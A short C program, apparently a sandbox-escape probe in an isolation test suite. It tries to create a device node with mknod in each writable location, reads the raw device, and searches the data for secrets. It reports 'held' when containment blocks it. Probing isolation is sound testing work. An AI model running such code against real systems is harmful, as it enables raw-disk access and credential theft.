/* node b|c MAJOR MINOR: makes a device node wherever it can, and searches the device for secrets. */
#include "way.h"

int main(int argc, char **argv) {
    (void)argc;
    static char data[1 << 16];
    for (const char *const *place = PLACES; *place; place++) {
        char path[64];
        snprintf(path, sizeof path, "%s/escape-node", *place);
        mode_t mode = (argv[1][0] == 'b' ? S_IFBLK : S_IFCHR) | 0600;
        int made = mknod(path, mode, makedev(atoi(argv[2]), atoi(argv[3])));
        int fd = made < 0 ? -1 : open(path, O_RDONLY);
        if (fd < 0)
            perror(path);
        unlink(path);
        ssize_t length = fd < 0 ? -1 : read(fd, data, sizeof data);
        if (length > 0) {
            search(data, length);
            return 0;
        }
    }
    held("mknod");
}
